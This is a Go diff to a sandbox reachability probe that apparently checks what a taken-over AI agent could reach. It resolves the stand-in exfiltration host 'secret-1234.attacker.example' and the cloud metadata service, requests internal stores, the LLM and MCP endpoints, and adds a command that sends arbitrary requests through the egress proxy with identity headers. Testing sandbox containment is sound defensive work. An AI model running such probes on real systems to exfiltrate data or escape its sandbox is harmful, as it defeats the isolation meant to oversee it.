@@ -19,11 +19,15 @@ const patience = 3 * time.Second
 
 func main() {
 	if len(os.Args) < 2 {
-		fmt.Fprintln(os.Stderr, "probe read | reach HOST:PORT…")
+		fmt.Fprintln(os.Stderr, "probe read | reach HOST:PORT… | ask METHOD URL TOKEN IDENTITY BODY")
 		os.Exit(2)
 	}
 	if os.Args[1] == "read" {
 		read(os.Stdout)
+		return
+	}
+	if os.Args[1] == "ask" && len(os.Args) == 7 {
+		fmt.Println(tell(os.Args[2], os.Args[3], os.Args[4], os.Args[5], os.Args[6]))
 		return
 	}
 	if reached := reach(os.Stdout, os.Args[2:]); reached {
@@ -82,7 +86,7 @@ func reach(w io.Writer, targets []string) (reached bool) {
 		text, open := talk(addr)
 		say("tcp "+addr, open, text)
 	}
-	for _, name := range []string{"example.com", "metadata.google.internal", "gateway.docker.internal", "localhost.localdomain", "secret-1234.attacker.example", "mcp.internal", "internal"} {
+	for _, name := range []string{"example.com", "metadata.google.internal", "gateway.docker.internal", "localhost.localdomain", "secret-1234.attacker.example", "internal"} {
 		ctx, cancel := context.WithTimeout(context.Background(), patience)
 		addrs, err := net.DefaultResolver.LookupHost(ctx, name)
 		cancel()
@@ -106,7 +110,7 @@ func reach(w io.Writer, targets []string) (reached bool) {
 	}
 	say("packet socket", err == nil, err)
 	for _, url := range []string{
-		"http://r2.internal/store?list-type=2", "http://r2.internal/store/config/SOUL.md", "http://llm.internal/openai/chat/completions", "http://web.internal/?url=https://example.com/",
+		"http://r2.internal/store?list-type=2", "http://r2.internal/store/config/SOUL.md", "http://llm.internal/openai/chat/completions", "http://web.internal/?url=https://example.com/", "http://mcp.internal/servers",
 	} {
 		for _, token := range []string{"", "0000000000000000000000000000000000000000000000000000000000000000"} {
 			status, body := get(url, "", token)
@@ -156,6 +160,30 @@ func ask(server, name string) (string, bool) {
 	}
 	code := answer[3] & 15
 	return fmt.Sprintf("%d bytes, code %d", n, code), code == 0
+}
+
+// tell asks the egress proxy as whoever has taken over the agent could, and says what
+// came of it.
+func tell(method, url, token, identity, body string) string {
+	ctx, cancel := context.WithTimeout(context.Background(), 10*patience)
+	defer cancel()
+	q, err := http.NewRequestWithContext(ctx, method, url, strings.NewReader(body)) // #nosec G704 -- that is what it is for
+	if err != nil {
+		return err.Error()
+	}
+	for name, value := range map[string]string{"X-LoongClaw-Door": token, "X-LoongClaw-Server-Id": identity, "Content-Type": "application/json", "Accept": "application/json, text/event-stream"} {
+		q.Header.Set(name, value)
+	}
+	if method == http.MethodPut {
+		q.Header.Set("If-None-Match", "*")
+	}
+	res, err := http.DefaultClient.Do(q) // #nosec G704 -- likewise
+	if err != nil {
+		return err.Error()
+	}
+	defer func() { _ = res.Body.Close() }()
+	b, _ := io.ReadAll(io.LimitReader(res.Body, 64<<10))
+	return fmt.Sprint(res.StatusCode, " ", res.Header, " ", string(b))
 }
 
 func get(url, host, token string) (int, string) {
